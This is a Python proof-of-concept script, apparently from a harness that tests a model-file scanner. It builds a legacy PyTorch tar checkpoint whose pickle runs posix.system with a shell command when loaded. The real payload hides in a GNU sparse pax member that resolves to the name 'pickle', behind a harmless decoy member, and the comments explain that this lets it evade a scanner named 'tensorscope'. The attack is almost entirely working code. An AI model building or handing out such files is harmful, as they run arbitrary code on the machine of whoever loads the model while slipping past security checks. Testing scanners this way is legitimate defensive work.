# legacy torch tar (pre-0.4 format) whose real `pickle` member is a GNU sparse 1.0 member named
# through the pax record GNU.sparse.name; a benign decoy member literally named "pickle" comes first.
# Python's tarfile: getmember("pickle") -> the last one (the sparse one), its data after the sparse map.
# tensorscope: sees the sparse member under its header name "x", probes its raw data (map text first).
from h import *
import tarfile, io, pickle
def evil(n):
    return b'\x80\x02cposix\nsystem\nX'+struct.pack('<I',len(sh(n)))+sh(n).encode()+b'\x85R.'
def build(path, n):
    payload = evil(n)
    mp = b"1\n0\n%d\n" % len(payload)
    mp = mp + b"\0"*(512-len(mp))
    members = [
        ("storages", pickle.dumps(0, 2) + pickle.dumps([], 2), None),
        ("tensors", pickle.dumps(0, 2), None),
        ("pickle", pickle.dumps({"decoy": 1}, 2), None),
        ("x", mp + payload, {"GNU.sparse.major": "1", "GNU.sparse.minor": "0",
                            "GNU.sparse.name": "pickle", "GNU.sparse.realsize": str(len(payload))}),
    ]
    buf = io.BytesIO()
    with tarfile.open(fileobj=buf, mode="w", format=tarfile.PAX_FORMAT) as t:
        for name, data, pax in members:
            ti = tarfile.TarInfo(name); ti.size = len(data)
            if pax: ti.pax_headers = pax
            t.addfile(ti, io.BytesIO(data))
    open(path, "wb").write(buf.getvalue())
if __name__ == "__main__":
    build("tar_sparse.pt", 6)
    t = tarfile.open("tar_sparse.pt"); print([ (m.name, m.size, m.sparse) for m in t.getmembers()]); print(t.extractfile("pickle").read()[:40])
    report("tar_sparse.pt", 6, "torch")
